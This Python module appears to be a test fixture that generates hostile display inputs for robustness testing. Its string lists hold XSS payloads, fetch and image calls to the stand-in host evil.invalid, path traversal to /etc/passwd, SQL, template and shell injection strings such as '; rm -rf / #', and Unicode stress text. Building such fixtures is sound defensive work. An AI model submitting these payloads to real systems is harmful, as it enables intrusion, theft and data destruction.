"""What somebody may write, or be called, to break a page that shows it."""

from __future__ import annotations

from collections.abc import Iterator

_CALLS = (
    *("alert(1)", "window.broken=1", "fetch('http://evil.invalid/')", "document.body.remove()"),
    "new Image().src='//evil.invalid/x'",
)
_MARKUP = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    "<SCRIPT SRC=//evil.invalid/x.js></SCRIPT>{}",
    "<img src=x onerror={}>",
    '"><img src=x onerror="{}">',
    "'><svg/onload={}>",
    "<svg><script>{}</script></svg>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<body onload={}>",
    '<a href="javascript:{}">click</a>',
    "javascript:{}",
    "<details open ontoggle={}>",
    "<math><mtext></p><img src onerror={}>",
    "</span></bdi></p><img src=x onerror={}>",
    "<template><img src=x onerror={}></template>",
    "${{{}}}",
)
_REST = (
    "<style>*{display:none!important}</style>",
    "</style><style>body{background:url(http://evil.invalid/)}</style>",
    "<link rel=stylesheet href=//evil.invalid/x.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.invalid/'>",
    "<base href=//evil.invalid/>",
    "<form action=//evil.invalid/><input autofocus></form>",
    "<input type=image src=//evil.invalid/x>",
    "<video src=//evil.invalid/x autoplay>",
    "<object data=//evil.invalid/x></object>",
    "<marquee>hello</marquee>",
    "<h1>big</h1>",
    "<!-- hidden",
    "-->]]><![CDATA[",
    "<plaintext>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\\u003cimg src=x onerror=alert(1)\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "data:text/html,<script>alert(1)</script>",
    "http://evil.invalid/<script>",
    "//evil.invalid/",
    "file:///etc/passwd",
    "../../../../etc/passwd",
    "..\\..\\windows\\system32",
    "/dev/null",
    "CON", "NUL.txt",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "#{7*7} <%= 7*7 %> {{7*7}} ${{7*7}}",
    "%s%s%s%n%x", "{0} {name!r} {__class__}",
    "'; DROP TABLE viewers; --",
    '{"type":"speaking","item":{"id":"x"}}',
    '"}]}\n{"type":"ended"}',
    "__proto__", "constructor", "toString", "hasOwnProperty",
    "; rm -rf / #", "$(reboot)", "`reboot`", "| cat /etc/passwd",
    "<speak><break time='9999s'/></speak>", "[[inpt PHON]]",
    "null", "undefined", "NaN", "-1", "1e309", "0x41414141", "true",
    "\u202eevil txt.exe\u202c", "\u202d\u202e\u2066\u2067 nested", "\u200f\u200f\u05d0\u05d1 \u0627\u0644",
    "\u2067" * 200 + "deep", "a\u0300" * 3, "Z\u0335\u0322\u0327\u0328\u0321" * 40,
    "h" + "\u0300\u0301\u0302\u0303\u0489" * 120 + "i", "\u0e47" * 80, "\u0488" * 50,
    "\u200b" * 300, "\u00ad" * 300, "\ufeff\ufeff", "\u2028line\u2029paragraph", "\u3164\u3164",
    "\u115f" * 40,
    "a\x00b", "\x00", "\x07\x08\x1b[31mred\x1b[0m", "\x7f\x80\x9f", "tab\there", "\x1b]0;title\x07",
    "\ud800".encode("utf-8", "surrogatepass").decode("utf-8", "replace"), "\uffff\ufffe\U0010ffff",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466" * 60, "\U0001f1e8\U0001f1f3" * 90,
    "\U0001f600" * 400, "\u2764\ufe0f\u200d\U0001f525" * 50, "\U000e0041" * 100, "\U0001d54f" * 100,
    "\ufdfd" * 60, "\U00012219" * 60, "\ua9c5" * 60, "\u2e3b" * 100, "W" * 400, "i" * 480,
    "\u6f22" * 300, "a " * 240, "-" * 400, ("ab" * 200) + "\u202e" + ("cd" * 40), "http://" + "a" * 400,
    "x" * 100_000, "\u5b57" * 30_000, "word " * 20_000,
)  # fmt: skip


def payloads() -> Iterator[str]:
    for number, shape in enumerate(_MARKUP):
        yield shape.format(_CALLS[number % len(_CALLS)])
        yield shape.format(_CALLS[(number + 1) % len(_CALLS)])
    yield from _REST
